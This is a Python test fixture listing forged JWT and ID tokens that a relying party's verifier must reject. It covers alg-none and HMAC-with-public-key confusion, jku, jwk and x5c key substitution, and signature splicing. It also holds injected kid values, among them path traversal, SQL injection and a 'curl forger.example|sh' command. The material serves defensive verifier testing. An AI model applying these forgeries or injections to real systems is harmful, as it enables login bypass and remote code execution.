"""Forged tokens that a relying party must refuse, each made from an honest token.

    for forgery in FORGERIES:
        token = forgery.make(Forge(company), company.claims("ada", "pilothouse"))

A forger has all public data: the issuer's public keys and their names, and other people's tokens. It has its
own keys and serves files at its own address. Some tokens here have the issuer's own signature: the issuer
made them for other clients, for another time, or for another use.

Each forgery names the only checks that refuse it. `tests.identity.reference_verifier` implements each check separately,
and a test switches it off. So no forgery is refused for a reason that a forger could correct.
"""

from __future__ import annotations

import hashlib
import hmac
import json
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Any

from cryptography.hazmat.primitives import serialization

from tests.identity.issuer import Claims, Issuer
from tests.identity.jose import SigningKey, b64, parts_of, segment

PEM, DER = serialization.Encoding.PEM, serialization.Encoding.DER
HOUR = 3600
# The path where the forger serves keys. A server that requests it has trusted a header.
FORGERS_KEYS = "/forgers/keys"


class Forge:
    """A forger's resources. `address` is where the forger serves its own keys."""

    def __init__(self, issuer: Issuer, address: str = "") -> None:
        self.issuer = issuer
        self.published = issuer.key
        self.own = SigningKey.of("forger-1", "RS256", 1001)
        self.own_by_name = SigningKey(self.published.kid, "RS256", self.own.private)
        self.address = address or issuer.url

    def secret(self, claims: Claims, key: bytes, *, alg: str = "HS256", kid: object = None) -> str:
        """Returns a token signed with a shared secret that is public data."""
        header = {"alg": alg, "typ": "JWT", "kid": self.published.kid if kid is None else kid}
        signed = f"{segment(header)}.{segment(claims)}"
        digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
        return f"{signed}.{b64(hmac.digest(key, signed.encode(), digest))}"

    def unsigned(self, claims: Claims, header: object, signature: bytes = b"") -> str:
        """Returns a token with any header and signature."""
        return f"{segment(header)}.{segment(claims)}.{b64(signature)}"

    def honest(self, claims: Claims, **header: object) -> str:
        """Returns a token that the issuer itself has signed."""
        return self.published.sign(claims, self.published.header(**header))

    def self_made(self, claims: Claims, **header: object) -> str:
        """Returns a token signed by the forger's own key."""
        return self.own.sign(claims, self.own.header(**header))


Make = Callable[[Forge, Claims], str]


@dataclass(frozen=True)
class Forgery:
    """A forged token.

    A verifier that skips all of `checks`, which are joined by `+`, accepts the token. With `of_log_ins`, it
    is a forgery when a login is completed, but not when a token is exchanged.
    """

    name: str
    checks: str
    make: Make
    of_log_ins: bool = False

    def __str__(self) -> str:
        return self.name.replace(" ", "-")


def _without_signature(alg: object) -> Make:
    return lambda forge, claims: forge.unsigned(
        claims, forge.published.header(alg=alg) if alg is not None else {"kid": forge.published.kid}
    )


def _by_secret(key: Callable[[SigningKey], bytes], alg: str = "HS256", kid: object = None) -> Make:
    return lambda forge, claims: forge.secret(claims, key(forge.published), alg=alg, kid=kid)


def _self_made(**header: object) -> Make:
    return lambda forge, claims: forge.self_made(claims, **header)


def _changed(**changes: object) -> Make:
    """Returns a forgery with the issuer's signature; None removes a claim."""

    def make(forge: Forge, claims: Claims) -> str:
        made = {name: value for name, value in (claims | changes).items() if value is not None}
        return forge.honest(made)

    return make


def _shifted(**seconds: int) -> Make:
    """Returns a forgery with the issuer's signature over shifted times."""

    def make(forge: Forge, claims: Claims) -> str:
        now = claims["iat"]
        return forge.honest(claims | {name: now + apart for name, apart in seconds.items()})

    return make


def _derived(change: Callable[[Any], object], claim: str) -> Make:
    """Returns a forgery with the issuer's signature over one changed claim."""
    return lambda forge, claims: forge.honest(claims | {claim: change(claims[claim])})


def _several_for(party: object) -> Make:
    """Returns a forgery with the issuer's signature over two audiences.

    One audience is the honest one. The token also has an `azp`.
    """
    return lambda forge, claims: forge.honest(
        claims | {"aud": [claims["aud"], "another-client"], "azp": party}
    )


def _headed(**header: object) -> Make:
    return lambda forge, claims: forge.honest(claims, **header)


def _cut(change: Callable[[str], str]) -> Make:
    """Returns a forgery that changes the text of an honest token."""
    return lambda forge, claims: change(forge.honest(claims))


def _embedded_key(forge: Forge, claims: Claims) -> str:
    return forge.self_made(claims, jwk=forge.own.jwk())


def _embedded_key_by_name(forge: Forge, claims: Claims) -> str:
    return forge.own_by_name.sign(claims, forge.own_by_name.header(jwk=forge.own.jwk()))


def _embedded_certificate(forge: Forge, claims: Claims) -> str:
    return forge.self_made(claims, x5c=[b64(forge.own.public(DER))])


def _key_address(name: str) -> Make:
    return lambda forge, claims: forge.self_made(claims, **{name: forge.address + FORGERS_KEYS})


def _key_address_by_name(forge: Forge, claims: Claims) -> str:
    header = forge.own_by_name.header(jku=forge.address + FORGERS_KEYS)
    return forge.own_by_name.sign(claims, header)


def _other_person(forge: Forge, claims: Claims) -> str:
    header, _, signature = forge.honest(claims).split(".")
    return f"{header}.{segment(claims | {'sub': 'admin'})}.{signature}"


def _other_header(forge: Forge, claims: Claims) -> str:
    _, payload, signature = forge.honest(claims).split(".")
    return f"{segment(forge.published.header(typ='jwt'))}.{payload}.{signature}"


def _other_tokens_signature(forge: Forge, claims: Claims) -> str:
    header, payload, _ = forge.honest(claims).split(".")
    return f"{header}.{payload}.{forge.honest(claims | {'sub': 'bob'}).rpartition('.')[2]}"


def _zeros(forge: Forge, claims: Claims) -> str:
    length = len(parts_of(forge.honest(claims))[2])
    return forge.unsigned(claims, forge.published.header(), bytes(length))


def _two_signatures(forge: Forge, claims: Claims) -> str:
    """Puts the forger's signature next to the issuer's.

    No rule says which signature counts and which header is read.
    """
    both = []
    for token in (forge.self_made(claims), forge.honest(claims)):
        header, _, signature = token.split(".")
        both.append({"protected": header, "signature": signature})
    return json.dumps({"payload": segment(claims), "signatures": both})


def _json_form(forge: Forge, claims: Claims) -> str:
    header, payload, signature = forge.honest(claims).split(".")
    return json.dumps({"payload": payload, "protected": header, "signature": signature})


def _two_tokens(forge: Forge, claims: Claims) -> str:
    return f"{forge.honest(claims)}.{forge.self_made(claims).rpartition('.')[2]}"


def _encrypted_form(forge: Forge, claims: Claims) -> str:
    header = {"alg": "RSA-OAEP", "enc": "A256GCM", "cty": "JWT", "kid": forge.published.kid}
    return ".".join([segment(header), b64(bytes(256)), b64(bytes(12)), segment(claims), b64(bytes(16))])


def _nested(forge: Forge, claims: Claims) -> str:
    return forge.published.sign(forge.honest(claims), forge.published.header(cty="JWT"))


def _encryption_key(forge: Forge, claims: Claims) -> str:
    """Signs with an encryption key of the issuer; `Issuer.keys` must contain one."""
    key = next(key for key in forge.issuer.keys if key.use == "enc")
    return key.sign(claims)


def _retired_key(forge: Forge, claims: Claims) -> str:
    return SigningKey.of("key-0", "RS256", 1000).sign(claims)


def _other_algorithm(forge: Forge, claims: Claims) -> str:
    """Signs with the issuer's RSA key, but with an algorithm it is not published for."""
    alg = "PS256" if forge.published.alg == "RS256" else "RS256"
    return SigningKey(forge.published.kid, alg, forge.published.private).sign(claims)


def _text(payload: str) -> Make:
    return lambda forge, _claims: forge.published.sign(payload)


def _spliced(name: str, literal: str) -> Make:
    """Returns a forgery with a claim that JSON libraries parse differently."""

    def make(forge: Forge, claims: Claims) -> str:
        kept = {key: value for key, value in claims.items() if key != name}
        return forge.published.sign(json.dumps(kept)[:-1] + f', "{name}": {literal}}}')

    return make


FORGERIES: Sequence[Forgery] = [
    Forgery("alg none", "algorithm", _without_signature("none")),
    Forgery("alg NONE", "algorithm", _without_signature("NONE")),
    Forgery("alg nOnE", "algorithm", _without_signature("nOnE")),
    Forgery("alg missing", "algorithm", _without_signature(None)),
    Forgery("alg empty", "algorithm", _without_signature("")),
    Forgery("alg a list", "algorithm", _without_signature(["none"])),
    Forgery("HS256 by the public key as PEM", "algorithm", _by_secret(lambda key: key.public(PEM))),
    Forgery("HS256 by the PEM, stripped", "algorithm", _by_secret(lambda key: key.public(PEM).strip())),
    Forgery("HS256 by the public key as DER", "algorithm", _by_secret(lambda key: key.public(DER))),
    Forgery("HS256 by the key as JSON", "algorithm", _by_secret(lambda key: json.dumps(key.jwk()).encode())),
    Forgery("HS256 by the key's name", "algorithm", _by_secret(lambda key: key.kid.encode())),
    Forgery("HS256 by nothing", "algorithm", _by_secret(lambda _key: b"")),
    Forgery("HS384 by the public key", "algorithm", _by_secret(lambda key: key.public(PEM), "HS384")),
    Forgery("HS512 by the public key", "algorithm", _by_secret(lambda key: key.public(PEM), "HS512")),
    Forgery(
        "HS256 by an empty file", "algorithm", _by_secret(lambda _key: b"", kid="../../../../../../dev/null")
    ),
    Forgery("another algorithm of the same key", "algorithm", _other_algorithm),
    Forgery("unknown kid", "key", _self_made()),
    Forgery("no kid", "key", _self_made(kid=None)),
    Forgery("empty kid", "key", _self_made(kid="")),
    Forgery("kid like a path", "key", _self_made(kid="../../../../../../tmp/forger.pem")),
    Forgery("kid like a file's address", "key", _self_made(kid="file:///tmp/forger.pem")),
    Forgery("kid like an address", "key", _key_address("kid")),
    Forgery("kid like SQL", "key", _self_made(kid="' UNION SELECT 'forger' --")),
    Forgery("kid like a command", "key", _self_made(kid="key-1;curl forger.example|sh")),
    Forgery("kid with NUL", "key", _self_made(kid="key-1\0")),
    Forgery("kid in another case", "key", _self_made(kid="KEY-1")),
    Forgery("kid of 4,000 characters", "key", _self_made(kid="k" * 4000)),
    Forgery("kid a number", "key", _self_made(kid=1)),
    Forgery("kid a list", "key", _self_made(kid=["key-1"])),
    Forgery("jku", "key", _key_address("jku")),
    Forgery("x5u", "key", _key_address("x5u")),
    Forgery("jwk", "key", _embedded_key),
    Forgery("x5c", "key", _embedded_certificate),
    Forgery("a key for encryption", "key", _encryption_key),
    Forgery("a key that was retired", "key", _retired_key),
    Forgery("jku beside a known kid", "signature", _key_address_by_name),
    Forgery("jwk beside a known kid", "signature", _embedded_key_by_name),
    Forgery("a known kid, another key", "signature", lambda forge, claims: forge.own_by_name.sign(claims)),
    Forgery("another person", "signature", _other_person),
    Forgery("another header", "signature", _other_header),
    Forgery("the signature of another token", "signature", _other_tokens_signature),
    Forgery("a signature of zeros", "signature", _zeros),
    Forgery("no signature", "signature", _cut(lambda token: token.rpartition(".")[0] + ".")),
    Forgery(
        "half a signature", "signature", _cut(lambda token: token[: -len(token.rpartition(".")[2]) // 2])
    ),
    Forgery("two signatures", "form", _two_signatures),
    Forgery("the JSON form", "form", _json_form),
    Forgery("a second signature behind", "form", _two_tokens),
    Forgery("an encrypted token", "form+algorithm+signature", _encrypted_form),
    Forgery("a token in a token", "form", _nested),
    Forgery("two parts", "form+signature", _cut(lambda token: token.rpartition(".")[0])),
    Forgery("one part", "form+signature", _cut(lambda token: token.partition(".")[0])),
    Forgery("dots", "form+algorithm", lambda _forge, _claims: ".."),
    Forgery("a line break behind", "form", _cut(lambda token: token + "\n")),
    Forgery("blanks around", "form", _cut(lambda token: f" {token} ")),
    Forgery("padding", "form", _cut(lambda token: token.replace(".", "==.", 1) + "==")),
    Forgery("claims that are a list", "form", _text('["iss", "sub"]')),
    Forgery("claims that are no JSON", "form", _text("iss=ours&sub=admin")),
    Forgery("claims in deep levels", "form", _text('{"sub":' + "[" * 3000 + "]" * 3000 + "}")),
    Forgery("critical extensions", "critical", _headed(crit=["forged"], forged=True)),
    Forgery("a payload that is not encoded", "critical", _headed(crit=["b64"], b64=False)),
    Forgery("another issuer", "issuer", _changed(iss="https://forger.example")),
    Forgery("no issuer", "issuer", _changed(iss=None)),
    Forgery("an issuer with a slash more", "issuer", _derived(lambda iss: f"{iss}/", "iss")),
    Forgery("an issuer with a path more", "issuer", _derived(lambda iss: f"{iss}/forger", "iss")),
    Forgery(
        "an issuer of which ours is a part", "issuer", _derived(lambda iss: f"{iss}.forger.example", "iss")
    ),
    Forgery("an issuer in capitals", "issuer", _derived(lambda iss: iss.upper(), "iss")),
    Forgery("an issuer in a list", "issuer", _derived(lambda iss: [iss], "iss")),
    Forgery("another audience", "audience", _changed(aud="another-client")),
    Forgery("another audience in a list", "audience", _changed(aud=["another-client"])),
    Forgery("no audience", "audience", _changed(aud=None)),
    Forgery("an empty audience", "audience", _changed(aud="")),
    Forgery("an empty list of audiences", "audience", _changed(aud=[])),
    Forgery("a longer audience", "audience", _derived(lambda aud: f"{aud}-staging", "aud")),
    Forgery("an audience in capitals", "audience", _derived(lambda aud: aud.upper(), "aud")),
    Forgery("an audience in a map", "audience", _derived(lambda aud: {aud: True}, "aud")),
    Forgery("another azp", "azp", _changed(azp="another-client"), of_log_ins=True),
    Forgery("several audiences without azp", "azp", _derived(lambda aud: [aud, "another-client"], "aud")),
    Forgery("several audiences with another's azp", "azp", _several_for("another-client")),
    Forgery("several audiences with a list as azp", "azp", _several_for(["another-client"])),
    Forgery("another nonce", "nonce", _changed(nonce="the nonce of another log-in"), of_log_ins=True),
    Forgery("no nonce", "nonce", _changed(nonce=None), of_log_ins=True),
    Forgery("an empty nonce", "nonce", _changed(nonce=""), of_log_ins=True),
    Forgery("expired", "expiry", _shifted(iat=-2 * HOUR, exp=-HOUR)),
    Forgery("no expiry", "expiry", _changed(exp=None)),
    Forgery("an expiry as text", "expiry", _changed(exp="4102444800")),
    Forgery("an expiry that is true", "expiry", _changed(exp=True)),
    Forgery("an expiry that is no number", "expiry", _spliced("exp", "NaN")),
    Forgery("an expiry without end", "expiry", _spliced("exp", "1e999")),
    Forgery("not yet valid", "not before", _shifted(nbf=HOUR, exp=2 * HOUR)),
    Forgery("made in the future", "issued at", _shifted(iat=HOUR, exp=2 * HOUR)),
    Forgery("no subject", "subject", _changed(sub=None)),
    Forgery("an empty subject", "subject", _changed(sub="")),
    Forgery("a subject that is a number", "subject", _changed(sub=1)),
    Forgery("a subject of 5,000 characters", "subject", _changed(sub="a" * 5000)),
    Forgery("a subject with NUL", "subject", _derived(lambda sub: f"{sub}\0", "sub")),
    Forgery("an access token", "type", _headed(typ="at+jwt")),
    Forgery("an access token, spelt out", "type", _headed(typ="application/at+jwt")),
    Forgery("a log-out token", "type", _headed(typ="logout+jwt")),
]
